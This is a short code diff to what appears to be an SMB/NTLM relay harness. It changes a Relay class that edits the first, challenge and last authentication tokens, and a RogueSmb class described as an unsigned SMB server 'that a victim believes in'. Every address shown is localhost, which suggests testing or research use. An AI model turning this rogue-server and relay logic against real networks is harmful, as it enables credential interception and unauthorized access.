@@ -125,7 +125,7 @@ class Relay:
 
     def __init__(self, port, edit_first=None, edit_challenge=None, edit_last=None, connect=None):
         same = lambda token: token  # noqa: E731
-        self.port = port
+        self.port, self.server = port, "127.0.0.1"
         self.connect = connect or (lambda: RawSmb(port, timeout=8))
         self.edits = [edit_first or same, edit_challenge or same, edit_last or same]
         self.sessions = []
@@ -173,13 +173,13 @@ class Relayed:
 class RogueSmb:
     """An SMB 2.1 server without signing that a victim believes in; a context manager."""
 
-    def __init__(self, relay, address="127.0.0.1"):
+    def __init__(self, relay, address="127.0.0.1", port=0):
         self.relay = relay
-        self.listener = socket.create_server((address, 0))
+        self.listener = socket.create_server((address, port))
         self.address, self.port = self.listener.getsockname()[:2]
 
     def negotiate_answer(self, frame):
-        with RawSmb(self.relay.port) as smb:
+        with RawSmb(self.relay.port, self.relay.server) as smb:
             token = raw_smb.security_buffer(smb.negotiated)
         body = struct.pack("<HHHH16sIIIIQQHHI", 65, 1, 0x210, 0, bytes(16), 0, 65536, 65536, 65536, 0, 0, 128,
                            len(token), 0)
